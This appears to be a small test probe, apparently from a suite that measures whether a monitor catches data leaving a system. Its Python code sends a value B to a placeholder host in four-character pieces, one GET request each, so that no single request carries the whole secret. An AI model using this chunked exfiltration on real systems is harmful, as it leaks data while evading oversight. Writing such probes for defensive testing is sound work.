# tries: the value in pieces, each in a request of its own
# ends: documented
from lib import *

c = http.client.HTTPSConnection(HOST, PORT, timeout=10)
for i in range(0, len(B), 4):
    c.request("GET", "/?v=" + urllib.parse.quote(B[i:i + 4]))
    c.getresponse().read()
